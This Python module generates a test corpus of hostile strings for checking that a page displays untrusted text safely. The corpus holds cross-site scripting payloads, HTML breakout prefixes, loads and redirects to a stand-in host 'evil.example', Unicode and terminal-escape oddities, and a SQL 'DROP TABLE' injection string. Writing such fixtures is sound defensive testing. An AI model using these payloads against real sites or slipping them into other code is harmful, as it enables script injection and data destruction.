"""Texts that attack whoever shows them: nothing in, two hundred of them out, none of which may do anything in a page.

Each that runs calls `attacked()`, which no page has; so one that ran is an error, a dialog, an element or a request.
"""

from __future__ import annotations

from itertools import product

ELEMENTS = (
    "<script>attacked()</script>",
    "<script src=https://evil.example/a.js></script>",
    "<img src=x onerror=attacked()>",
    "<svg onload=attacked()>",
    "<svg><script>attacked()</script></svg>",
    "<iframe src=javascript:attacked()></iframe>",
    "<iframe srcdoc='<script>parent.attacked()</script>'></iframe>",
    "<body onload=attacked()>",
    "<input autofocus onfocus=attacked()>",
    "<details open ontoggle=attacked()>",
    "<video><source onerror=attacked()></video>",
    "<object data=javascript:attacked()></object>",
    "<embed src=javascript:attacked()>",
    "<a href=javascript:attacked()>click</a>",
    "<form action=javascript:attacked()><button>go</button></form>",
    "<math><mtext><style><img src=x onerror=attacked()></style></mtext></math>",
    "<style>@import 'https://evil.example/a.css'; * { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<template><script>attacked()</script></template>",
    "<noscript><img src=https://evil.example/a.png></noscript>",
    "<marquee onstart=attacked()>",
    "<isindex type=image src=1 onerror=attacked()>",
)
BREAKOUTS = ("", "</script>", "</pre></div>", "\"'>", "-->", "]]>", "${attacked()}", "{{attacked()}}")
OTHERS = (
    "javascript:attacked()",
    "data:text/html,<script>attacked()</script>",
    "&lt;script&gt;attacked()&lt;/script&gt;",
    "\\u003cscript\\u003eattacked()\\u003c/script\\u003e",
    "<!--<script>",
    "</style><script>attacked()</script>",
    "__proto__",
    "constructor",
    "\u202eevil\u202c",
    "\u2066\u2067\u2068left\u2069",
    "zero\u200bwidth\u2060and\ufeffmark",
    "tags \U000e0041\U000e0042\U000e0043",
    "\x1b[31mred\x1b]0;title\x07",
    "nul \x00 bell \x07 delete \x7f next \x85",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "line\u2028separator\u2029paragraph",
    "carriage\rreturn\r\nand\ttab",
    "'; DROP TABLE rollouts; --",
    "long" * 5000,
    "",
)


def hostile_texts() -> list[str]:
    """Returns the texts, each once, in one order."""
    return [*dict.fromkeys([*(before + element for before, element in product(BREAKOUTS, ELEMENTS)), *OTHERS])]
